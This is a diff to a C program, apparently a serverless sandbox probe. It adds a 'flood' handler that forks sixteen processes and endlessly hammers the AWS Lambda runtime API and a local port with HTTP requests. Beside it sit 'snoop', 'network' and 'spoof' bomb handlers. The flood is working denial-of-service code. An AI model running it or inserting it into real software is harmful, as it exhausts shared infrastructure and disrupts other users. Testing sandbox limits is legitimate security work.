@@ -264,12 +264,27 @@ static void spoof(const char *event) {
     }
 }
 
+/* Asks the server for what it refuses, all the time, from all sides. */
+static void flood(void) {
+    char host[64], answer[4096];
+    snprintf(host, sizeof host, "%s", getenv("AWS_LAMBDA_RUNTIME_API"));
+    char *colon = strchr(host, ':');
+    if (!colon) return;
+    *colon = 0;
+    for (int number = 0; number < 4; number++) fork();
+    for (;;) {
+        asked(host, colon + 1, "GET /nothing HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 500, answer, sizeof answer);
+        asked("127.0.0.1", "9002", "GET http://127.0.0.1/ HTTP/1.1\r\nHost: x\r\n\r\n", 500, answer, sizeof answer);
+    }
+}
+
 static const char *handle(const char *event) {
     found[0] = 0;
     next_text(field(event, "word"), word, sizeof word);
     if (strstr(event, "\"bomb\":\"snoop\"")) snoop(event);
     else if (strstr(event, "\"bomb\":\"network\"")) network(event);
     else if (strstr(event, "\"bomb\":\"spoof\"")) spoof(event);
+    else if (strstr(event, "\"bomb\":\"flood\"")) flood();
     else say("no such place to look at");
     static char answer[sizeof found + 2];
     snprintf(answer, sizeof answer, "[%s]", found);
